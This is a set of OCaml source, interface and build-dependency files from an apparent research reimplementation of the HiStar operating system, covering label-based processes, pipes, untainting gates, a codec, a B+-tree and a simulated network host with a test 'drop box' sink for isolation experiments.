    alloc_fd proc (mk_fd_state_with_cats proc (T_pipe_w p) ~append:false ~fr ~fw)
  in
  (rfd, wfd)

(* ---------- spawn / fork+exec ---------- *)

(* Hard-link an object into [dst_ct], tolerating an existing link
   (both pipe ends share one backing segment). *)
let link_into ~dst_ct target =
  Sys.set_fixed_quota target;
  match Sys.container_link ~container:dst_ct ~target with
  | () -> ()
  | exception Kernel_error (Invalid _) -> ()

let inherit_fd parent child n =
  let st =
    match Hashtbl.find_opt parent.fds n with
    | Some st -> st
    | None -> invalid_arg (Printf.sprintf "inherit_fd: bad fd %d" n)
  in
  link_into ~dst_ct:child.proc_ct st.fd_seg;
  let relink_pipe p =
    let pe = Pipe.entry p in
    link_into ~dst_ct:child.proc_ct pe;
    Pipe.of_entry (centry child.proc_ct pe.object_id)
  in
  let target =
    match st.target with
    | T_file f -> T_file f
    | T_pipe_r p -> T_pipe_r (relink_pipe p)
    | T_pipe_w p ->
        Pipe.add_writer p;
        T_pipe_w (relink_pipe p)
  in
  Hashtbl.replace child.fds n
    { st with fd_seg = centry child.proc_ct st.fd_seg.object_id; target }

let inherited_cats proc fds =
  List.concat_map
    (fun n ->
      let st = get_fd proc n in
      [ (st.fr, Level.Star); (st.fw, Level.Star) ])
    fds

let publish_exit exit_seg status =
  set_word exit_seg 8 (Int64.of_int status);
  set_word exit_seg 0 1L;
  ignore (Sys.futex_wake exit_seg ~off:0 ~count:max_int)

(* Terminate the current thread, publishing [status]. A thread that has
   tainted itself cannot write the exit-status segment directly — doing
   so would leak — so it falls back to the process's exit untainting
   gate if its creator provided one (§5.8). With no gate the exit is
   silent, which is exactly the strong-isolation configuration wrap
   uses for the virus scanner. *)
let do_exit proc status : unit =
  match publish_exit proc.exit_seg status with
  | () -> Sys.self_halt ()
  | exception Kernel_error (Label_check _) -> (
      match proc.exit_gate with
      | None -> Sys.self_halt ()
      | Some gate ->
          let e = Codec.Enc.create () in
          Codec.Enc.u32 e status;
          Sys.tls_write (Codec.Enc.to_string e);
          let self = Sys.self_label () in
          let gl = Sys.obj_label gate in
          let floor =
            Label.lower_star (Label.lub (Label.raise_j self) (Label.raise_j gl))
          in
          Sys.gate_enter ~gate ~label:floor ~clearance:(Sys.self_clearance ())
            ())

(* The exit gate runs with the spawner's ownership (including any taint
   categories it owns), so it may declassify the exit event. *)
let exit_gate_entry exit_seg () =
  let d = Codec.Dec.of_string (Sys.tls_read ()) in
  let status = Codec.Dec.u32 d in
  publish_exit exit_seg status;
  Sys.self_halt ()

let make_exit_gate ~proc_ct ~exit_seg =
  (* clearance = the spawner's clearance, so children tainted in any
     category the spawner has clearance for can still invoke it *)
  let gate =
    Sys.gate_create ~container:proc_ct ~label:(Sys.self_label ())
      ~clearance:(Sys.self_clearance ()) ~quota:4096L ~name:"exit gate"
      (exit_gate_entry exit_seg)
  in
  centry proc_ct gate

(* The common tail: create the child's main thread running [main]. *)
let start_main_thread ~proc_for_child ~tlabel ~tclear ~name main =
  Sys.thread_create ~container:proc_for_child.proc_ct ~label:tlabel
    ~clearance:tclear ~quota:262_144L ~name:(name ^ " main")
    (fun () ->
      Sys.self_set_as proc_for_child.as_entry;
      main proc_for_child;
      (* falling off the end = exit 0 *)
      do_exit proc_for_child 0)

let spawn proc ~name ?user ?(fds = []) ?(extra_label = [])
    ?(extra_clearance = []) ?(untaint_exit = true) ?in_container main =
  let user = match user with Some u -> Some u | None -> proc.puser in
  let parent_ct = Option.value in_container ~default:proc.parent_ct in
  let pr = Sys.cat_create () in
  let pw = Sys.cat_create () in
  let proc_ct, internal_ct, exit_seg, as_entry =
    build_structure ~fs:proc.pfs ~parent_ct ~name ~pr ~pw ~user ()
  in
  let exit_gate =
    if untaint_exit then Some (make_exit_gate ~proc_ct ~exit_seg) else None
  in
  let priv_label = l [ (pr, Level.L3); (pw, Level.L0) ] Level.L1 in
  let _heap, _stack =
    setup_address_space ~internal_ct ~as_entry ~priv_label ~text:None
  in
  let child =
    {
      pname = name;
      parent_ct;
      proc_ct;
      internal_ct;
      pr;
      pw;
      exit_seg;
      signal_gate = exit_seg;
      as_entry;
      puser = user;
      pfs = Fs.copy proc.pfs;
      fds = Hashtbl.create 8;
      next_fd = 3;
      handlers = Hashtbl.create 4;
      out_buf = proc.out_buf;
      sig_thread = 0L;
      exit_gate;
    }
  in
  (* inherit the requested descriptors: hard-link each descriptor
     segment (and any pipe backing segment) into the child's own
     container, so the objects survive whichever process exits first
     and each holder can unreference its own link (§5.3) *)
  List.iter (fun n -> inherit_fd proc child n) fds;
  if fds <> [] then
    child.next_fd <- 1 + List.fold_left max child.next_fd fds;
  let signal_gate = install_signal_infra child in
  let child = { child with signal_gate } in
  let tlabel =
    thread_label ~pr ~pw ~user ~extra:(inherited_cats proc fds @ extra_label)
  in
  let tclear = clearance_for ~extra:extra_clearance tlabel in
  let _tid = start_main_thread ~proc_for_child:child ~tlabel ~tclear ~name main in
  {
    h_parent_ct = parent_ct;
    h_proc_ct = proc_ct;
    h_exit_seg = exit_seg;
    h_signal_gate = child.signal_gate;
    h_pr = pr;
    h_pw = pw;
  }

(* fork + exec: faithfully wasteful. fork copies the parent's writable
   segments and descriptor state into a new process; exec throws the
   copies away and rebuilds from the executable. *)
let fork_exec proc ~name ?text ?(fds = []) main =
  let pr = Sys.cat_create () in
  let pw = Sys.cat_create () in
  let proc_ct, internal_ct, exit_seg, as_entry =
    build_structure ~fs:proc.pfs ~parent_ct:proc.parent_ct ~name ~pr ~pw
      ~user:proc.puser ()
  in
  let exit_gate = Some (make_exit_gate ~proc_ct ~exit_seg) in
  let priv_label = l [ (pr, Level.L3); (pw, Level.L0) ] Level.L1 in
  (* --- fork: duplicate the parent's address-space contents --- *)
  let parent_mappings = Sys.as_get proc.as_entry in
  let copies =
    List.map
      (fun m ->
        let seg = m.Histar_core.Syscall.seg in
        let copy =
          Sys.segment_copy ~src:seg ~container:internal_ct ~label:priv_label
            ~quota:266_240L "fork copy"
        in
        (m, copy))
      parent_mappings
  in
  List.iter
    (fun (m, copy) ->
      Sys.as_map as_entry
        { m with Histar_core.Syscall.seg = centry internal_ct copy })
    copies;
  (* duplicate every descriptor's state segment, as fork shares them *)
  let fd_copies =
    Hashtbl.fold
      (fun n st acc ->
        let c =
          Sys.segment_copy ~src:st.fd_seg ~container:internal_ct
            ~label:priv_label ~quota:8192L "fd copy"
        in
        (n, st, c) :: acc)
      proc.fds []
  in
  (* --- exec: discard the copies, rebuild a fresh image --- *)
  List.iter
    (fun (m, copy) ->
      Sys.as_unmap as_entry m.Histar_core.Syscall.va;
      Sys.unref (centry internal_ct copy))
    copies;
  List.iter
    (fun (n, _st, c) ->
      ignore n;
      Sys.unref (centry internal_ct c))
    fd_copies;
  let text_ce =
    match text with
    | Some path -> (
        match Fs.lookup proc.pfs path with
        | Some node when not node.Fs.is_dir -> Some (Fs.entry node)
        | Some _ | None ->
            invalid_arg (Printf.sprintf "exec: no such executable: %s"
                           (Option.value text ~default:"?")))
    | None -> None
  in
  let _heap, _stack =
    setup_address_space ~internal_ct ~as_entry ~priv_label ~text:text_ce
  in
  let child =
    {
      pname = name;
      parent_ct = proc.parent_ct;
      proc_ct;
      internal_ct;
      pr;
      pw;
      exit_seg;
      signal_gate = exit_seg;
      as_entry;
      puser = proc.puser;
      pfs = Fs.copy proc.pfs;
      fds = Hashtbl.create 8;
      next_fd = 3;
      handlers = Hashtbl.create 4;
      out_buf = proc.out_buf;
      sig_thread = 0L;
      exit_gate;
    }
  in
  List.iter (fun n -> inherit_fd proc child n) fds;
  let signal_gate = install_signal_infra child in
  let child = { child with signal_gate } in
  let tlabel =
    thread_label ~pr ~pw ~user:proc.puser ~extra:(inherited_cats proc fds)
  in
  let tclear = clearance_for tlabel in
  let _tid = start_main_thread ~proc_for_child:child ~tlabel ~tclear ~name main in
  {
    h_parent_ct = proc.parent_ct;
    h_proc_ct = proc_ct;
    h_exit_seg = exit_seg;
    h_signal_gate = child.signal_gate;
    h_pr = pr;
    h_pw = pw;
  }

(* ---------- wait / exit / kill ---------- *)

let wait _proc h =
  let rec block () =
    let done_ = word h.h_exit_seg 0 in
    if Int64.equal done_ 0L then begin
      Sys.futex_wait h.h_exit_seg ~off:0 ~expected:0L;
      block ()
    end
  in
  block ();
  let status = Int64.to_int (word h.h_exit_seg 8) in
  (* reap: destroy the process subtree *)
  (try Sys.unref (centry h.h_parent_ct h.h_proc_ct) with Kernel_error _ -> ());
  status

let exit proc status =
  do_exit proc status;
  (* do_exit never returns; this only fixes the type *)
  Sys.self_halt ()

let kill proc h signal =
  let e = Codec.Enc.create () in
  Codec.Enc.u8 e signal;
  Sys.tls_write (Codec.Enc.to_string e);
  (* request the privileges the signal gate grants: the target's pr/pw *)
  let granted =
    Label.set
      (Label.set (Sys.self_label ()) h.h_pr Level.Star)
      h.h_pw Level.Star
  in
  Sys.gate_call ~gate:h.h_signal_gate ~label:granted
    ~clearance:(Sys.self_clearance ()) ~return_container:proc.internal_ct
    ~return_label:(Sys.self_label ())
    ~return_clearance:(Sys.self_clearance ()) ()

(* Ensure the process container has at least [n] spare bytes, pulling
   quota from the enclosing container (which for top-level processes is
   the root, with quota ∞). *)
let reserve proc n =
  let q, u = Sys.obj_quota (self_entry proc.proc_ct) in
  let avail =
    if Int64.equal q Int64.max_int then Int64.max_int else Int64.sub q u
  in
  if Int64.compare avail n < 0 then
    Sys.quota_move ~container:proc.parent_ct ~target:proc.proc_ct
      ~nbytes:(Int64.sub n avail)

let on_signal proc s handler =
  if s = 9 then invalid_arg "on_signal: SIGKILL cannot be caught";
  Hashtbl.replace proc.handlers s handler
