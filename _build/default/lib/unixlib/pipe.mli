(** Unix pipes, implemented entirely in user space on a shared segment
    with a futex-guarded ring buffer — the substrate for the paper's
    IPC benchmark (§7.1).

    Segment layout: mutex word, read position, write position, live
    writer count, then a fixed-capacity ring. Positions are monotonic;
    readers sleep on the write-position futex, writers on the
    read-position futex. *)

type t

val capacity : int

val create :
  container:Histar_core.Types.oid -> label:Histar_label.Label.t -> t
(** Create the backing segment. The creating thread must be able to
    write [container] and create at [label]. *)

val of_entry : Histar_core.Types.centry -> t
(** Re-open an existing pipe segment (e.g. in a child process). *)

val entry : t -> Histar_core.Types.centry

val write : t -> string -> unit
(** Blocks while the ring is full. *)

val read : t -> max:int -> string option
(** Blocks while empty; [None] once all writers have closed and the
    ring has drained. *)

val add_writer : t -> unit
(** Register one more writing endpoint (the creator counts as one). *)

val close_writer : t -> unit
