(** Processes as a user-space convention (§5.2, Figure 6).

    Each process owns two fresh categories [pr] (secrecy) and [pw]
    (integrity). Its threads run at [{pr⋆, pw⋆, …, 1}]. The kernel
    objects are exactly the paper's: a process container labeled
    [{pw0, 1}] exposing the exit-status segment and signal gate; an
    internal container labeled [{pr3, pw0, 1}] holding the address
    space and the heap/stack segments; file-descriptor segments labeled
    [{fr3, fw0, 1}] with per-descriptor categories shared across
    processes that hold the descriptor open (§5.3).

    [spawn] starts a program directly; [fork_exec] emulates the
    Unix fork-then-exec sequence on the low-level interface, copying
    the parent's segments only for exec to discard them — the cause of
    the paper's 317-versus-127 syscall gap (§7.1). *)

module Label = Histar_label.Label
module Category = Histar_label.Category
open Histar_core.Types

type t
(** A process environment: the handle user code receives. *)

type handle
(** A parent's reference to a child (for wait/kill). *)

type user = {
  user_name : string;
  ur : Category.t;  (** read category *)
  uw : Category.t;  (** write category *)
}

val boot :
  fs:Fs.t -> container:oid -> ?user:user -> name:string -> unit -> t
(** Build the process structure for the calling thread (the init
    process). The caller's thread label gains the new pr/pw. *)

val name : t -> string
val fs : t -> Fs.t
val container : t -> oid
(** The process container. *)

val internal : t -> oid
val categories : t -> Category.t * Category.t
val proc_user : t -> user option
val output : t -> Buffer.t
(** Console output buffer (host-visible). *)

val printf : t -> ('a, Buffer.t, unit) format -> 'a

(** {1 Creating processes} *)

val spawn :
  t ->
  name:string ->
  ?user:user ->
  ?fds:int list ->
  ?extra_label:(Category.t * Histar_label.Level.t) list ->
  ?extra_clearance:(Category.t * Histar_label.Level.t) list ->
  ?untaint_exit:bool ->
  ?in_container:oid ->
  (t -> unit) ->
  handle
(** Start a program in a fresh process. [fds] are descriptors the
    child inherits (their categories are granted to the child's
    threads). [extra_label] adds taint or ownership the parent holds.
    [untaint_exit] (default true) installs the §5.8 exit untainting
    gate so a tainted child can still declassify its exit status; pass
    false for strong isolation (wrap does). *)

val fork_exec :
  t -> name:string -> ?text:string -> ?fds:int list -> (t -> unit) -> handle
(** The Unix-compatible path: build a copy of this process (copying
    heap, stack and descriptor segments), then exec [text] (a path to
    an executable file) in it, discarding the copies. Far more system
    calls than [spawn], as in the paper. *)

val wait : t -> handle -> int
(** Block until the child exits; returns its status and reaps it. *)

val exit : t -> int -> 'a
(** Terminate the calling process with a status. Never returns. *)

val kill : t -> handle -> int -> unit
(** Send a signal through the child's signal gate. *)

val on_signal : t -> int -> (int -> unit) -> unit
(** Install a handler (signal 9 is always fatal and cannot be
    caught). *)

val handle_container : handle -> oid
val handle_exit_seg : handle -> centry

(** {1 File descriptors (§5.3)} *)

type fd = int

val open_file : t -> ?append:bool -> string -> fd
val create_file : t -> ?label:Label.t -> string -> fd
val read : t -> fd -> int -> string
(** [""] at end of file (for files) or end of stream (pipes). *)

val write : t -> fd -> string -> int
val seek : t -> fd -> int -> unit
val fd_pos : t -> fd -> int
val close : t -> fd -> unit
val pipe : t -> fd * fd
(** (read end, write end). *)

val fd_count : t -> int

val reserve : t -> int64 -> unit
(** Ensure the process container has this much spare quota, pulling
    from the enclosing container. *)
