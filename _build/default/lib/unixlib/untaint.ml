module Sys = Histar_core.Sys
module Label = Histar_label.Label
module Level = Histar_label.Level
module Category = Histar_label.Category
module Codec = Histar_util.Codec
open Histar_core.Types

let call gate ~return_container payload =
  Sys.tls_write payload;
  Sys.gate_call ~gate
    ~label:(Sys.gate_floor gate)
    ~clearance:(Sys.self_clearance ()) ~return_container
    ~return_label:(Sys.self_label ())
    ~return_clearance:(Sys.self_clearance ()) ();
  Sys.tls_read ()

(* ---------- file creation ---------- *)

let make_file_create_gate ~fs ~container ~taints =
  let self = Sys.self_label () in
  List.iter
    (fun c ->
      if not (Label.owns self c) then
        invalid_arg "Untaint.make_file_create_gate: caller must own the taint")
    taints;
  let entry () =
    let path = Codec.Dec.str (Codec.Dec.of_string (Sys.tls_read ())) in
    (* the file stays tainted: only its name is declassified *)
    let file_label =
      Label.of_list (List.map (fun c -> (c, Level.L3)) taints) Level.L1
    in
    let reply = Codec.Enc.create () in
    (match Fs.create fs ~label:file_label path with
    | ce ->
        Codec.Enc.bool reply true;
        Codec.Enc.i64 reply ce.container;
        Codec.Enc.i64 reply ce.object_id
    | exception _ -> Codec.Enc.bool reply false);
    Sys.tls_write (Codec.Enc.to_string reply);
    Sys.gate_return ()
  in
  let gate_label =
    List.fold_left (fun l c -> Label.set l c Level.Star) (Label.make Level.L1)
      taints
  in
  (* tainted threads must clear the gate's clearance *)
  let gate_clearance =
    List.fold_left (fun l c -> Label.set l c Level.L3) (Label.make Level.L2)
      taints
  in
  centry container
    (Sys.gate_create ~container ~label:gate_label ~clearance:gate_clearance
       ~quota:4096L ~name:"untaint: file creation" entry)

let create_file_via ~gate ~return_container path =
  let e = Codec.Enc.create () in
  Codec.Enc.str e path;
  let d = Codec.Dec.of_string (call gate ~return_container (Codec.Enc.to_string e)) in
  if Codec.Dec.bool d then
    let c = Codec.Dec.i64 d in
    let o = Codec.Dec.i64 d in
    centry c o
  else failwith "Untaint.create_file_via: creation refused"

(* ---------- quota adjustment ---------- *)

let make_quota_gate ~container ~taints =
  let self = Sys.self_label () in
  List.iter
    (fun c ->
      if not (Label.owns self c) then
        invalid_arg "Untaint.make_quota_gate: caller must own the taint")
    taints;
  let entry () =
    let d = Codec.Dec.of_string (Sys.tls_read ()) in
    let src = Codec.Dec.i64 d in
    let target = Codec.Dec.i64 d in
    let nbytes = Codec.Dec.i64 d in
    let reply = Codec.Enc.create () in
    (match Sys.quota_move ~container:src ~target ~nbytes with
    | () -> Codec.Enc.bool reply true
    | exception Kernel_error _ -> Codec.Enc.bool reply false);
    Sys.tls_write (Codec.Enc.to_string reply);
    Sys.gate_return ()
  in
  let gate_label =
    List.fold_left (fun l c -> Label.set l c Level.Star)
      (Sys.self_label ()) taints
  in
  let gate_clearance =
    List.fold_left (fun l c -> Label.set l c Level.L3) (Label.make Level.L2)
      taints
  in
  centry container
    (Sys.gate_create ~container ~label:gate_label ~clearance:gate_clearance
       ~quota:4096L ~name:"untaint: quota adjustment" entry)

let adjust_quota_via ~gate ~return_container ~container ~target ~nbytes =
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e container;
  Codec.Enc.i64 e target;
  Codec.Enc.i64 e nbytes;
  let d = Codec.Dec.of_string (call gate ~return_container (Codec.Enc.to_string e)) in
  if not (Codec.Dec.bool d) then
    failwith "Untaint.adjust_quota_via: refused"
