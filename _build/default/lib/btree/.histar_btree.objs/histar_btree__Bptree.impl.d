lib/btree/bptree.ml: Array Histar_util Int64 List Option Printf
