lib/btree/bptree.mli: Histar_util
