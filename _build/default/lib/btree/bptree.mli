(** B+-tree with fixed-size keys and values (both [int64]).

    The single-level store uses three of these, exactly as in §4 of the
    paper: object ID → disk location, free extents indexed by size, and
    free extents indexed by location. Fixed-size keys and values
    "significantly simplify the implementation" — composite keys (for
    the by-size index) are packed into the int64.

    The tree is mutable. Keys are unique; inserting an existing key
    replaces its value. *)

type t

val create : ?order:int -> unit -> t
(** [order] is the maximum number of children of an internal node
    (default 16; must be at least 4). *)

val insert : t -> int64 -> int64 -> unit
val find : t -> int64 -> int64 option
val mem : t -> int64 -> bool

val remove : t -> int64 -> bool
(** [true] if the key was present. *)

val cardinal : t -> int
val is_empty : t -> bool
val min_binding : t -> (int64 * int64) option
val max_binding : t -> (int64 * int64) option

val find_geq : t -> int64 -> (int64 * int64) option
(** Smallest binding with key [>=] the argument. *)

val find_gt : t -> int64 -> (int64 * int64) option
val find_leq : t -> int64 -> (int64 * int64) option
(** Largest binding with key [<=] the argument. *)

val find_lt : t -> int64 -> (int64 * int64) option
val iter : (int64 -> int64 -> unit) -> t -> unit
val fold : ('a -> int64 -> int64 -> 'a) -> 'a -> t -> 'a
val to_list : t -> (int64 * int64) list

val height : t -> int
(** Tree height (1 for a single leaf); useful for balance assertions. *)

val check_invariants : t -> unit
(** Raises [Failure] if a structural invariant is violated: key
    ordering, node fill factors, uniform leaf depth, leaf chaining. *)

val encode : Histar_util.Codec.Enc.t -> t -> unit
val decode : Histar_util.Codec.Dec.t -> t
