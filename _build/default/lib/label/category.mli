(** Categories of taint: opaque 61-bit identifiers (§2). *)

type t = private int64

val of_int64 : int64 -> t
(** Raises [Invalid_argument] if the value does not fit in 61 bits. *)

val to_int64 : t -> int64
val of_int : int -> t
val compare : t -> t -> int
val equal : t -> t -> bool
val hash : t -> int
val pp : Format.formatter -> t -> unit
val to_string : t -> string

module Map : Map.S with type key = t
module Set : Set.S with type elt = t
