type t = Star | L0 | L1 | L2 | L3 | J

let to_rank = function
  | Star -> 0
  | L0 -> 1
  | L1 -> 2
  | L2 -> 3
  | L3 -> 4
  | J -> 5

let of_rank = function
  | 0 -> Star
  | 1 -> L0
  | 2 -> L1
  | 3 -> L2
  | 4 -> L3
  | 5 -> J
  | n -> invalid_arg (Printf.sprintf "Level.of_rank: %d" n)

let compare a b = Int.compare (to_rank a) (to_rank b)
let equal a b = compare a b = 0
let leq a b = compare a b <= 0
let max a b = if leq a b then b else a
let min a b = if leq a b then a else b

let of_int = function
  | 0 -> L0
  | 1 -> L1
  | 2 -> L2
  | 3 -> L3
  | n -> invalid_arg (Printf.sprintf "Level.of_int: %d" n)

let is_storable = function J -> false | Star | L0 | L1 | L2 | L3 -> true

let to_string = function
  | Star -> "*"
  | L0 -> "0"
  | L1 -> "1"
  | L2 -> "2"
  | L3 -> "3"
  | J -> "J"

let pp fmt t = Format.pp_print_string fmt (to_string t)
