type t = int64

let max61 = Int64.sub (Int64.shift_left 1L 61) 1L

let of_int64 v =
  if v < 0L || v > max61 then
    invalid_arg (Printf.sprintf "Category.of_int64: %Ld out of 61-bit range" v);
  v

let to_int64 v = v
let of_int v = of_int64 (Int64.of_int v)
let compare = Int64.compare
let equal = Int64.equal
let hash v = Int64.to_int v land max_int
let to_string v = Printf.sprintf "c%Ld" v
let pp fmt v = Format.pp_print_string fmt (to_string v)

module Ord = struct
  type nonrec t = t

  let compare = compare
end

module Map = Map.Make (Ord)
module Set = Set.Make (Ord)
