(** Taint levels (§2, Figure 3).

    Stored labels use [Star] (untainting privilege, threads and gates
    only) and the numeric levels [L0]-[L3]. [J] ("HiStar") is the high
    reading of ownership and appears only transiently inside label
    checks, never in the label of an actual object. The total order is
    [Star < L0 < L1 < L2 < L3 < J]. *)

type t = Star | L0 | L1 | L2 | L3 | J

val compare : t -> t -> int
val equal : t -> t -> bool
val max : t -> t -> t
val min : t -> t -> t
val leq : t -> t -> bool

val of_int : int -> t
(** [of_int n] is [L0]..[L3] for [0]..[3]. Raises [Invalid_argument]
    otherwise. *)

val to_rank : t -> int
(** Position in the total order: [Star]=0 .. [J]=5. *)

val of_rank : int -> t

val is_storable : t -> bool
(** [true] for every level except [J]. *)

val pp : Format.formatter -> t -> unit
val to_string : t -> string
