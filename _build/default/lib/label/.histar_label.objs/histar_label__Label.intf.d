lib/label/label.mli: Category Format Histar_util Level
