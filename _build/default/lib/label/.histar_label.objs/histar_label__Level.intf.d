lib/label/level.mli: Format
