lib/label/level.ml: Format Int Printf
