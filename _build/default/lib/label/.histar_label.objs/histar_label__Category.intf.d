lib/label/category.mli: Format Map Set
