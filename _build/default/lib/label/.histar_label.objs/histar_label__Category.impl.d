lib/label/category.ml: Format Int64 Map Printf Set
