lib/label/label.ml: Category Format Histar_util Level List Option
