lib/wal/wal.ml: Histar_disk Histar_util Int64 List String
