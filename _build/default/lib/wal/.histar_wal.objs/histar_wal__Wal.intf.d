lib/wal/wal.mli: Histar_disk
