exception Truncated

module Enc = struct
  type t = Buffer.t

  let create () = Buffer.create 256
  let u8 b v = Buffer.add_char b (Char.chr (v land 0xff))

  let u16 b v =
    u8 b v;
    u8 b (v lsr 8)

  let u32 b v =
    u16 b v;
    u16 b (v lsr 16)

  let i64 b v = Buffer.add_int64_le b v
  let int b v = i64 b (Int64.of_int v)
  let bool b v = u8 b (if v then 1 else 0)

  let str b s =
    u32 b (String.length s);
    Buffer.add_string b s

  let raw b s = Buffer.add_string b s

  let list b f l =
    u32 b (List.length l);
    List.iter (f b) l

  let array b f a =
    u32 b (Array.length a);
    Array.iter (f b) a

  let option b f = function
    | None -> u8 b 0
    | Some v ->
        u8 b 1;
        f b v

  let pair b fa fb (x, y) =
    fa b x;
    fb b y

  let length b = Buffer.length b
  let to_string b = Buffer.contents b
end

module Dec = struct
  type t = { src : string; mutable pos : int }

  let of_string s = { src = s; pos = 0 }

  let need d n =
    if d.pos + n > String.length d.src then raise Truncated

  let u8 d =
    need d 1;
    let v = Char.code d.src.[d.pos] in
    d.pos <- d.pos + 1;
    v

  let u16 d =
    let lo = u8 d in
    let hi = u8 d in
    lo lor (hi lsl 8)

  let u32 d =
    let lo = u16 d in
    let hi = u16 d in
    lo lor (hi lsl 16)

  let i64 d =
    need d 8;
    let v = String.get_int64_le d.src d.pos in
    d.pos <- d.pos + 8;
    v

  let int d = Int64.to_int (i64 d)

  let bool d =
    match u8 d with
    | 0 -> false
    | 1 -> true
    | _ -> raise Truncated

  let raw d n =
    need d n;
    let s = String.sub d.src d.pos n in
    d.pos <- d.pos + n;
    s

  let str d =
    let n = u32 d in
    raw d n

  let list d f =
    let n = u32 d in
    List.init n (fun _ -> f d)

  let array d f =
    let n = u32 d in
    Array.init n (fun _ -> f d)

  let option d f =
    match u8 d with
    | 0 -> None
    | 1 -> Some (f d)
    | _ -> raise Truncated

  let pair d fa fb =
    let a = fa d in
    let b = fb d in
    (a, b)

  let pos d = d.pos
  let remaining d = String.length d.src - d.pos
  let at_end d = remaining d = 0
end
