type t = { mutable now : int64 }

let create () = { now = 0L }
let now_ns t = t.now

let advance_ns t dt =
  assert (dt >= 0L);
  t.now <- Int64.add t.now dt

let advance_us t us = advance_ns t (Int64.of_float (us *. 1e3))
let advance_ms t ms = advance_ns t (Int64.of_float (ms *. 1e6))
let elapsed_since_ns t t0 = Int64.sub t.now t0
let to_seconds ns = Int64.to_float ns /. 1e9
