lib/util/codec.mli:
