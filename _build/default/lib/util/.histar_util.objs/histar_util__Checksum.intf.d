lib/util/checksum.mli:
