lib/util/sim_clock.ml: Int64
