lib/util/checksum.ml: Char Int64 String
