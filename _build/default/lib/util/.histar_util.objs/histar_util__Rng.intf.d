lib/util/rng.mli:
