(** Virtual time source shared by the simulated disk, network and kernel.

    Time is measured in integer nanoseconds. Components advance the clock
    to model the latency of the operations they simulate; benchmarks read
    elapsed virtual time instead of wall-clock time, which makes the LFS
    results deterministic and machine-independent. *)

type t

val create : unit -> t

val now_ns : t -> int64
(** Current virtual time in nanoseconds. *)

val advance_ns : t -> int64 -> unit
(** Move time forward. The amount must be non-negative. *)

val advance_us : t -> float -> unit
val advance_ms : t -> float -> unit

val elapsed_since_ns : t -> int64 -> int64
(** [elapsed_since_ns t t0] is [now - t0]. *)

val to_seconds : int64 -> float
(** Convert a nanosecond count to seconds. *)
