let offset_basis = 0xCBF29CE484222325L
let prime = 0x100000001B3L

let fnv64_sub s ~pos ~len =
  let h = ref offset_basis in
  for i = pos to pos + len - 1 do
    h := Int64.logxor !h (Int64.of_int (Char.code s.[i]));
    h := Int64.mul !h prime
  done;
  !h

let fnv64 s = fnv64_sub s ~pos:0 ~len:(String.length s)
