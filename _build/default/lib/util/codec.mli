(** Binary serialization used by the single-level store and the kernel.

    Encoders append to an internal buffer; decoders read from a string and
    raise {!Truncated} on malformed or short input. All integers are
    little-endian and fixed-width, which keeps on-disk object sizes
    predictable for quota accounting. *)

exception Truncated
(** Raised by decoders on short reads or invalid tags. *)

module Enc : sig
  type t

  val create : unit -> t
  val u8 : t -> int -> unit
  val u16 : t -> int -> unit
  val u32 : t -> int -> unit
  val i64 : t -> int64 -> unit
  val int : t -> int -> unit
  val bool : t -> bool -> unit
  val str : t -> string -> unit
  (** Length-prefixed string. *)

  val raw : t -> string -> unit
  (** Appends the bytes with no length prefix. *)

  val list : t -> (t -> 'a -> unit) -> 'a list -> unit
  val array : t -> (t -> 'a -> unit) -> 'a array -> unit
  val option : t -> (t -> 'a -> unit) -> 'a option -> unit
  val pair : t -> (t -> 'a -> unit) -> (t -> 'b -> unit) -> 'a * 'b -> unit
  val length : t -> int
  val to_string : t -> string
end

module Dec : sig
  type t

  val of_string : string -> t
  val u8 : t -> int
  val u16 : t -> int
  val u32 : t -> int
  val i64 : t -> int64
  val int : t -> int
  val bool : t -> bool
  val str : t -> string
  val raw : t -> int -> string
  val list : t -> (t -> 'a) -> 'a list
  val array : t -> (t -> 'a) -> 'a array
  val option : t -> (t -> 'a) -> 'a option
  val pair : t -> (t -> 'a) -> (t -> 'b) -> 'a * 'b
  val pos : t -> int
  val remaining : t -> int
  val at_end : t -> bool
end
