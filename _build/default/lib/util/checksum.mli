(** 64-bit FNV-1a checksum, used to validate write-ahead-log records and
    checkpoint images after a crash. *)

val fnv64 : string -> int64
val fnv64_sub : string -> pos:int -> len:int -> int64
