(** Simulated internet hosts: standalone endpoints on the {!Hub} that
    run a {!Stack} outside any HiStar kernel. They stand in for the
    paper's external machines (the wget server, the attacker's drop
    box, VPN peers). Host logic runs inline on frame delivery. *)

type t

val create :
  hub:Hub.t ->
  clock:Histar_util.Sim_clock.t ->
  ip:string ->
  mac:string ->
  unit ->
  t

val stack : t -> Stack.t
val ip : t -> Addr.ip

val serve :
  t ->
  port:Addr.port ->
  on_data:(Stack.conn -> string -> unit) ->
  on_eof:(Stack.conn -> unit) ->
  unit
(** Generic service: [on_data]/[on_eof] run inline as frames arrive. *)

val serve_file : t -> port:Addr.port -> content:string -> unit
(** A minimal HTTP-like file server: on each connection, reads a
    request line ["GET"], streams [content], then closes. *)

val echo : t -> port:Addr.port -> unit
(** Echoes everything it receives, closing when the peer closes. *)

val sink : t -> port:Addr.port -> unit
(** Accepts connections and discards data — the attacker's drop box.
    Everything received is recorded in {!sink_data}. *)

val sink_data : t -> string
(** All bytes ever received by {!sink} listeners. *)
