lib/net/sim_host.mli: Addr Histar_util Hub Stack
