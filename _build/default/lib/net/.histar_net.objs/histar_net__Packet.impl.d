lib/net/packet.ml: Addr Format Histar_util String
