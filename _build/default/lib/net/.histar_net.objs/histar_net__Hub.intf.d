lib/net/hub.mli: Addr Histar_util
