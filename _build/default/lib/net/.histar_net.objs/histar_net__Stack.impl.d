lib/net/stack.ml: Addr Buffer Hashtbl Histar_util Int64 List Packet Queue String
