lib/net/stack.mli: Addr Histar_util
