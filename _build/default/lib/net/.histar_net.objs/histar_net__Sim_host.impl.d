lib/net/sim_host.ml: Addr Buffer Hub List Stack String
