lib/net/netd.ml: Addr Hashtbl Histar_core Histar_label Histar_util Hub Int64 Option Queue Stack String
