lib/net/hub.ml: Addr Hashtbl Histar_util Packet String
