lib/net/netd.mli: Addr Histar_core Histar_label Hub Stack
