type ip = int
type port = int
type t = { ip : ip; port : port }

let ip_of_string s =
  match String.split_on_char '.' s with
  | [ a; b; c; d ] ->
      let p x =
        let v = int_of_string x in
        if v < 0 || v > 255 then invalid_arg ("Addr.ip_of_string: " ^ s);
        v
      in
      (p a lsl 24) lor (p b lsl 16) lor (p c lsl 8) lor p d
  | _ -> invalid_arg ("Addr.ip_of_string: " ^ s)

let ip_to_string ip =
  Printf.sprintf "%d.%d.%d.%d"
